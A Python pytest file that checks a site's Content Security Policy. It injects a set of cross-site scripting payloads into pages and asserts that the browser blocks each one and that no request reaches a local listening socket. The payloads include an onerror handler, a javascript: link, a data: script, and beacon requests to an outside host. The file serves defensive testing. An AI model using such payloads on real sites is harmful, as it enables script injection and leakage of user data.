"""What a page may load and run, in a browser: nothing that was put into it."""

import socket
from collections.abc import Callable

import pytest

from browse import Visit, until

PUT = "const put = (text) => document.body.insertAdjacentHTML('beforeend', text);"
ADD = """const add = (name, properties) =>
    document.body.append(Object.assign(document.createElement(name), properties));"""
LISTEN = """() => {
    window.refused = [];
    addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
}"""

HARM = {
    "a handler": """put("<img src='' onerror='harmed = 1'>")""",
    "a script in the page": """add("script", {text: "harmed = 1"})""",
    "an address that is a script": """
        put("<a id='bad' href='javascript:harmed = 1'>a</a>");
        document.getElementById("bad").click()""",
    "text as code": """add("script", {src: "data:text/javascript,harmed = 1"})""",
    "a script from elsewhere": """add("script", {src: "ELSEWHERE/harm.js"})""",
    "a picture from elsewhere": """new Image().src = "ELSEWHERE/seen.png" """,
    "a message to elsewhere": """navigator.sendBeacon("ELSEWHERE/seen", "it")""",
}


@pytest.mark.parametrize("name", HARM)
@pytest.mark.parametrize("page", ["index.html", "paste_your_code.html"])
def test_nothing_that_is_put_into_a_page_runs_or_is_asked_for(
    visiting: Callable[[str], Visit], address: str, page: str, name: str
) -> None:
    """The browser refuses it, and says by which rule."""
    visit = visiting(address)
    opened = visit.go(page)
    opened.evaluate(LISTEN)
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        harm = HARM[name].replace("ELSEWHERE", f"http://127.0.0.1:{elsewhere.getsockname()[1]}")
        opened.evaluate(f"() => {{ {PUT} {ADD} {harm} }}")
        until(opened, "refused.length > 0")
        directive = opened.evaluate("refused[0]")
        elsewhere.setblocking(False)
        with pytest.raises(BlockingIOError):  # nobody has come
            elsewhere.accept()

    assert directive.split("-")[0] in ("script", "img", "connect")
    assert "undefined" == opened.evaluate("typeof harmed")


def test_the_policy_refuses_nothing_of_the_sites_own(visit: Visit) -> None:
    """A page with figures, a choice of runners, search, colours and copied code."""
    page = visit.go("gradients/tape.html")
    page.keyboard.press("/")
    page.keyboard.type("gradient")
    page.locator("#pst-search-dialog a").first.wait_for()

    assert page.locator(".pst-js-only:visible").count() > 0
